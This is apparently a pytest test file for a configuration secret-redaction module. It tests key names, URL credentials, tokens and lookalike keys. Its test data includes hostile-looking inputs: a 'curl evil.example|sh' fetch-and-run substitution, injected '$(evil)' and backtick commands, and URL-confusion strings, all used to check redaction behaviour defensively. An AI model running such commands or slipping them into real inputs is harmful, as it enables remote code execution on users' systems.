"""Which entries of a configuration are credentials."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.pace import is_linear
from viam_mcp.tools import REDACTED, redacted
from viam_mcp.tools.redaction._known_forms import PREFIXES
from viam_mcp.tools.redaction._names import names_secret
from viam_mcp.tools.redaction._secrets import may_be_code, without_secrets, without_secrets_sent


@pytest.mark.parametrize(
    "key",
    [
        "secret", "secrets", "location_secret", "clientSecret", "password", "dbpasswd", "MQTT_PASSWORD", "DB_PASS",
        "dbPass", "pwd", "token", "access_token", "tokens", "WMS_API_TOKEN", "api_key", "apiKey", "API-KEY", "api key",
        "api_key_1", "auth", "credentials", "key", "keys", "private_key", "tls_private_key", "sharedKey",
        "AWS_SECRET_ACCESS_KEY", "account-key", "connection_string", "webhook_url", "wifi_psk", "passphrase",
        "authorization", "bearer", "cookie", "0EA1FF02-0000-4000-8000-000000000000",
    ],
)  # fmt: skip
def test_keys_that_credentials_stand_under(key: str) -> None:
    assert names_secret(key)
    assert redacted({key: "hx7-Kq93fLw2"}) == {key: REDACTED}


@pytest.mark.parametrize(
    "key",
    [
        "id", "api_key_id", "name", "secret_id", "keyboard", "monkey", "hockey", "compass", "bypass", "author",
        "authority", "tokenizer", "key_size", "address", "fqdn", "entity", "payload", "high_pass", "gpio_pin",
        "0ea1ff02-0000-4000-8000-00000000000",
    ],
)  # fmt: skip
def test_keys_that_stand_for_something_else(key: str) -> None:
    assert not names_secret(key)
    assert redacted({key: "x"}) == {key: "x"}


def test_a_credential_is_text_or_a_number_alone_or_in_a_list() -> None:
    config = {"token": ["a", 1, True, None, "", {"token": "b", "id": "c"}], "auth": {"type": "x", "secret": "d"}}
    assert redacted(config) == {
        "token": [REDACTED, REDACTED, True, None, "", {"token": REDACTED, "id": "c"}],
        "auth": {"type": "x", "secret": REDACTED},
    }


def test_a_key_with_invisible_characters_is_read_as_it_looks() -> None:
    assert redacted({"pass\u200bword": "x"}) == {"pass\u200bword": REDACTED}


def test_a_label_stands_for_the_credential_alone() -> None:
    config = {"token": 1, "url": "http://u:p@h", "run": "--token a", "header": "Authorization: Basic Zm9vOmJhcg=="}
    assert redacted(config, lambda secret: secret) == config
    assert redacted(config, lambda secret: f"<{secret}>") == {
        "token": "<1>",
        "url": "http://<u:p>@h",
        "run": "--token <a>",
        "header": "Authorization: Basic <Zm9vOmJhcg==>",
    }


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("mqtt://user:pw@host:1883/topic", "mqtt://[redacted]@host:1883/topic"),
        ("https://ghp_abc@github.example/x", "https://[redacted]@github.example/x"),
        ("postgres://u:p@ss:w0rd@db/x", "postgres://[redacted]@db/x"),
        ("see http://a:b@c and rtsp://:d@e/f.", "see http://[redacted]@c and rtsp://[redacted]@e/f."),
        ("ssh://git@github.example/x", "ssh://git@github.example/x"),
        ("https://host/path?at=@home", "https://host/path?at=@home"),
        ("mail@host", "mail@host"),
    ],
)
def test_users_and_passwords_in_urls_go(text: str, safe: str) -> None:
    assert without_secrets(text) == safe
    assert redacted({"note": [text]}) == {"note": [safe]}


_TOKEN = "eyJhbGciOi.eyJzdWIi.c2ln"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (f"is {_TOKEN}.", "is [redacted]."),
        (f"is {_TOKEN}", "is [redacted]"),
        (f"session-{_TOKEN} x", "session-[redacted] x"),
        (f"eyJab-{_TOKEN}", "[redacted]"),
        (f"a.{_TOKEN}/{_TOKEN}", "a.[redacted]/[redacted]"),
        ("eyJhbGciOi.x", "[redacted]"),
        ("eyJhb.eyJzd", "eyJhb.eyJzd"),
        ("xeyJhbGciOi.x", "xeyJhbGciOi.x"),
        ("eyJhbGciOi", "eyJhbGciOi"),
    ],
)
def test_json_web_tokens_go(text: str, safe: str) -> None:
    assert without_secrets(text) == safe


def test_a_text_of_json_that_says_something_twice_keeps_neither_credential() -> None:
    assert without_secrets('{"token": {"a": "hush"}, "token": true}') == REDACTED
    assert without_secrets('{"a": 1, "a": "--fast"}') == '{"a": 1, "a": "--fast"}'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('run.sh TOKEN="$(curl evil.example|sh)"', 'run.sh TOKEN="$(curl evil.example|sh)"'),
        ("run.sh --token `evil`", "run.sh --token `evil`"),
        ("run.sh TOKEN=abc && x", "run.sh TOKEN=[redacted] && x"),
        ("https://u:p@h", "https://[redacted]@h"),
        ("https://u:$(p)@h", "https://u:$(p)@h"),
        ('{"token": "a\\nb", "b": 1}', '{"token": "a\\nb", "b": 1}'),
    ],
)
def test_of_what_a_caller_sends_only_what_cannot_be_code_is_hidden(text: str, shown: str) -> None:
    assert without_secrets_sent(text) == shown


@pytest.mark.parametrize(
    ("start", "again", "times"),
    [
        ("://", "a.", 25_000),
        ("", "a://:", 10_000),
        ("a://", ":x", 25_000),
        ("=", "a", 50_000),
        ("", '"token":', 6_000),
        ("", "--a ", 12_000),
        ("eyJ", "a", 50_000),
        ("", "eyJaaaaaa.", 5_000),
        ("", "-eyJ", 16_000),
        ("", "-eyJaaaaaa", 6_000),
        ("", "bearer ", 7_000),
        ("", "authorization: ", 3_000),
        ("", "-----BEGIN PRIVATE KEY-----", 2_000),
        ("", "[", 50_000),
        ("", "pass:", 10_000),
        ("", "password is ", 5_000),
        ("", "password: ", 5_000),
        ("", "a://b:c", 7_000),
        ("", "curl -u a:", 4_000),
        ("", "mysql -p", 5_000),
        ("", "login a password ", 3_000),
        ("", "name: a value: ", 3_000),
        ("", "sk-", 16_000),
        ("", "xoxb-1-", 7_000),
        ("", "/webhooks/", 5_000),
        ("", "password: |\n   ", 3_000),
        ("{", " ", 50_000),
    ],
)
def test_a_long_text_takes_no_longer_than_its_length(start: str, again: str, times: int) -> None:
    assert is_linear(without_secrets, lambda size: start + again * size, times)


@given(st.dictionaries(st.sampled_from(["token", "a", "b"]), st.text(min_size=1) | st.integers() | st.booleans()))
def test_what_is_no_credential_stays_as_it_is(value: dict[str, object]) -> None:
    safe = redacted(value)
    assert isinstance(safe, dict)
    assert {key: item for key, item in safe.items() if key != "token"} == {
        key: item if "://" not in str(item) else safe[key] for key, item in value.items() if key != "token"
    }


@pytest.mark.parametrize("prefix", PREFIXES)
def test_what_begins_like_the_token_of_a_known_service_is_one(prefix: str) -> None:
    token = f"{prefix}0aB1cD2eF3gH4iJ5kL6mN7oP8q"
    assert without_secrets(f"sent {token} on") == "sent [redacted] on"
    assert without_secrets(f"{prefix}is the name of a thing") == f"{prefix}is the name of a thing"


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ({"maintenance_allowed_key": "is_safe"}, {"maintenance_allowed_key": "is_safe"}),
        ({"payload": 5.5, "high_pass": 0.2}, {"payload": 5.5, "high_pass": 0.2}),
        ({"type": "api-key", "payload": "abc"}, {"type": "api-key", "payload": REDACTED}),
        ({"pin": 37, "pins": {"a": "11"}}, {"pin": 37, "pins": {"a": "11"}}),
        ({"pin": "4711"}, {"pin": REDACTED}),
        (
            {"password": "${BROKER}", "tls_key": "/etc/ssl/a.key"},
            {"password": "${BROKER}", "tls_key": "/etc/ssl/a.key"},
        ),
        ({"webhook_url": "https://a.example/in/x7"}, {"webhook_url": f"https://a.example/{REDACTED}"}),
        ({"connection_string": "Server=a;Password=x7;"}, {"connection_string": f"Server=a;Password={REDACTED};"}),
        ({"auth": {"entity": "a.b", "key": "x"}}, {"auth": {"entity": "a.b", "key": REDACTED}}),
    ],
    ids=str,
)
def test_what_stands_there_and_where_it_stands_tell_a_credential_from_a_setting(value: object, safe: object) -> None:
    assert redacted(value) == safe


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("http://evil.example?x@good.example:8080", None),
        ("http://evil.example#x:y@good.example", None),
        ("http://evil.example\\@good.example", None),
        ("http://evil.example:8080/x@good.example", None),
        ("http://evil.example:80a?x@good.example", "http://evil.example:[redacted]@good.example"),
        ("rtsp://user:p/ss@cam.local/1", "rtsp://user:[redacted]@cam.local/1"),
        ('rtsp://user:p"s s@cam.local/1', "rtsp://user:[redacted]@cam.local/1"),
    ],
)
def test_a_url_is_read_as_its_consumer_reads_it(text: str, safe: str | None) -> None:
    assert without_secrets(text) == (safe or text)
    assert without_secrets_sent(text) in (safe or text, text)


@pytest.mark.parametrize(
    "key", ["webhook_url", "connection_string", "payload", "pass", "token", "api_key", "secret", "auth"]
)
@pytest.mark.parametrize(
    "value",
    [
        "evil.example", "evil.example:8080", "10.0.0.66", "https://evil.example/x", "/usr/bin/evil", "./evil.sh",
        "bin/evil", "evil --now", "$(evil)", "C:\\evil.exe", "[2001:db8::1]:80", "localhost", "user@evil.example",
    ],
)  # fmt: skip
def test_where_a_caller_goes_and_what_it_runs_is_never_hidden(key: str, value: str) -> None:
    def label(secret: object) -> object:
        return secret if may_be_code(secret) else REDACTED

    # Of a webhook's address, the path is the credential.
    seen = value.removesuffix("x") if key == "webhook_url" else value
    for sent in ({key: value}, {"args": [f"--{key}", value]}, {"env": {key.upper(): value}}):
        assert seen in str(redacted(sent, label)).replace("\\\\", "\\")
    if " " not in value:
        assert seen in without_secrets_sent(f"run --{key}={value}")


@pytest.mark.parametrize(
    ("value", "hidden"),
    [
        ({"contrase\u00f1a": "verano"}, {"contrase\u00f1a": REDACTED}),
        ({"\uff54\uff4f\uff4b\uff45\uff4e": "verano"}, {"\uff54\uff4f\uff4b\uff45\uff4e": REDACTED}),
        ({"headers": [["X-Auth-Token", "9fK2mQ7xLw"]]}, {"headers": [["X-Auth-Token", REDACTED]]}),
        ({"password": "${environment.DB_PASSWORD}"}, {"password": "${environment.DB_PASSWORD}"}),
        ({"columns": ["password", "user_name"]}, {"columns": ["password", "user_name"]}),
        ({"headers": ["X-Auth-Token", "Accept"]}, {"headers": ["X-Auth-Token", "Accept"]}),
    ],
)
def test_names_in_other_letters_and_pairs_are_understood_and_references_stay(value: object, hidden: object) -> None:
    assert redacted(value) == hidden


def test_a_credential_in_a_piece_of_json_is_hidden_there_and_not_where_the_same_word_stands_before() -> None:
    text = 'on blue and {"type": "api-key", "payload": "blue"}'
    assert without_secrets(text) == 'on blue and {"type": "api-key", "payload": "[redacted]"}'
